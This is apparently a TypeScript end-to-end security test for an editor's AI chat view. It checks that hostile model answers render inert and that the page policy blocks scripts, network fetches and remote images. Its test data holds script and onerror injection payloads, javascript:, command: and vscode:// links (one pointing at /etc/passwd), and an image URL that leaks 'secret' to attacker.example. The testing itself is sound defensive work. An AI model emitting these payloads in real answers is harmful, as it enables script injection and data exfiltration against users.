import type { Frame } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { WorkbenchPage } from '../support/workbenchPage.ts';
import { chat, Laboratory } from './laboratory.ts';

let laboratory: Laboratory;
let window: WorkbenchPage;
let frame: Frame;
const outside: string[] = [];

beforeAll(async () => {
  laboratory = await Laboratory.open();
  window = await laboratory.window();
  window.page.on('request', (request) => /attacker/.test(request.url()) && outside.push(request.url()));
  window.page.on('dialog', (dialog) => outside.push(`dialog ${dialog.message()}`));
  frame = await window.openChatView();
});
afterAll(() => laboratory.close());

const answers: readonly (readonly [string, string, string])[] = [
  ['a script', 'Before <script>alert(1)</script><img src=x onerror=alert(2)> after', 'after'],
  [
    'links that are commands',
    '[one](javascript:alert(1)) [two](command:workbench.action.quit) [three](vscode://file/etc/passwd) end',
    'end',
  ],
  ['a remote picture', 'See ![chart](https://attacker.example/pixel.png?q=secret) end', 'end'],
  ['a frame', '<iframe src="https://attacker.example/"></iframe> end', 'end'],
  ['an unclosed fence', 'Code:\n\n```js\nlet x = "</code></pre><script>alert(3)</script>";\n', 'let x'],
  ['bidirectional controls', 'if (access\u202E \u2066// check\u2069 \u2066) { end', 'end'],
  ['one megabyte on one line', `start ${'x'.repeat(1_000_000)}`, 'start'],
];

describe('a hostile answer', () => {
  it.each(answers)('with %s is harmless text', async (_name, answer, visible) => {
    await chat.newConversation(frame);
    laboratory.simulator.say(answer);
    await chat.transmit(frame, 'Attack.');
    await chat.settled(frame);
    await chat.answer(frame).locator('.text').getByText(visible).first().waitFor();
    const found = await chat.answer(frame).evaluate((entry) => ({
      elements: entry.querySelectorAll('script, iframe, img, object, embed, form, style, link, [onerror], [style*="url"]').length,
      links: [...entry.querySelectorAll('a')]
        .map((link) => new URL(link.href).protocol)
        .filter((protocol) => !/^(https?|mailto):$/.test(protocol)),
      controls: /[\u202A-\u202E\u2066-\u2069]/.test(entry.textContent),
    }));
    expect(found).toEqual({ elements: 0, links: [], controls: false });
    expect(outside).toEqual([]);
  });

  it('caused no policy report and no exception', () => {
    expect(window.problems()).toEqual([]);
    expect(laboratory.workbench.extensionHostErrors()).toEqual([]);
  });
});

describe('the policy of the page, if something slipped through', () => {
  it('runs no script without the nonce', async () => {
    const ran = await frame.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'document.body.dataset.ran = "yes"';
      document.body.append(script);
      return document.body.dataset['ran'];
    });
    expect(ran).toBeUndefined();
  });

  it('reaches no network', async () => {
    const reached = await frame.evaluate(
      (url) =>
        fetch(url)
          .then(() => true)
          .catch(() => false),
      `${laboratory.simulator.url}/models`,
    );
    expect(reached).toBe(false);
  });

  it('loads no remote picture', async () => {
    const loaded = await frame.evaluate(
      (url) =>
        new Promise((resolve) => {
          const picture = new Image();
          picture.onload = () => resolve(true);
          picture.onerror = () => resolve(false);
          picture.src = url;
        }),
      `${new URL(laboratory.simulator.url).origin}/pixel.png`,
    );
    expect(loaded).toBe(false);
    expect(laboratory.simulator.requests.some(({ path }) => path.includes('pixel'))).toBe(false);
  });
});
